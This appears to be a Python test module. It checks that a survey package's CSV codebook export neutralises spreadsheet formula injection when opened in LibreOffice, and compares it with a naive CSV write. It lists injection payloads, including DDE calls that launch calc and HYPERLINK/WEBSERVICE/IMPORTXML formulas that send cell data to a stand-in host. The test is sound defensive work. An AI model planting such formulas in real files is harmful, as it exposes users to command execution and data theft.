"""Text that a spreadsheet would run, through codebook.csv into LibreOffice."""

import csv
import subprocess
import tempfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree as ET

from prove.programs import NotHere, found
from prove.table import Row
from survey.interop.package import write
from tests.interop.package import about_a_study as small

OFFICE = ("soffice", "libreoffice-calc-nogui")
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"look")',
    '=WEBSERVICE("http://elsewhere.example/"&A1)',
    '=IMPORTXML(CONCAT("http://elsewhere.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    ";=1+1",
    ",=1+1",
    "=1+1;=2+2",
    "{=1+1}",
    "=\n1+1",
)
"""After lists that testers of web sites use against exports as CSV."""

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def inert() -> list[Row]:
    """Open them all as cells of a codebook, and beside it what nobody defused."""
    claim = f"{len(FORMULAS)} formulas in a codebook, opened in LibreOffice"
    try:
        office = found(*OFFICE)
    except NotHere as missing:
        return [Row(claim, "none runs", str(missing), False)]
    with tempfile.TemporaryDirectory() as made:
        folder = Path(made)
        one = small.PLAIN[0]
        book = [
            replace(
                one, name=f"a_{n}", key=f"a.{n}", label=said, notes={"source": said}
            )
            for n, said in enumerate(FORMULAS)
        ]
        write(folder, small.ABOUT, book, ())
        naive = folder / "naive.csv"
        with naive.open("w", encoding="utf-8-sig", newline="") as file:
            csv.writer(file).writerows([said] for said in FORMULAS)
        ran, same = _opened(office, folder / "codebook.csv")
        ran_naive, _ = _opened(office, naive)
    return [
        Row(
            claim,
            "none runs, each cell as its text",
            f"{ran} run; cells the same: {same}",
            ran == 0 and same,
        ),
        Row(
            "the same cells written as they come",
            "some run",
            f"{ran_naive} run",
            ran_naive > 0,
        ),
    ]


def _opened(office: str, path: Path) -> tuple[int, bool]:
    """Count formulas, and say whether each cell is the text that the file has."""
    home = path.parent / "home"
    words = [f"-env:UserInstallation=file://{home}", "--headless", "--convert-to"]
    subprocess.run(
        [
            office,
            *words,
            "fods",
            "--infilter=CSV:44,34,76,1,,0,false,true,false",
            "--outdir",
            str(path.parent),
            str(path),
        ],
        check=True,
        capture_output=True,
    )
    tree = ET.parse(path.with_suffix(".fods"))
    cells = list(tree.iter(f"{TABLE}table-cell"))
    ran = sum(f"{TABLE}formula" in cell.attrib for cell in cells)
    shown = {_shown(cell) for cell in cells}
    with path.open(encoding="utf-8-sig", newline="") as file:
        meant = {" ".join(cell.split()) for row in csv.reader(file) for cell in row}
    return ran, meant <= shown | {""}


def _shown(cell: ET.Element) -> str:
    lines = ["".join(line.itertext()) for line in cell.iter(f"{TEXT}p")]
    return " ".join(" ".join(lines).split())
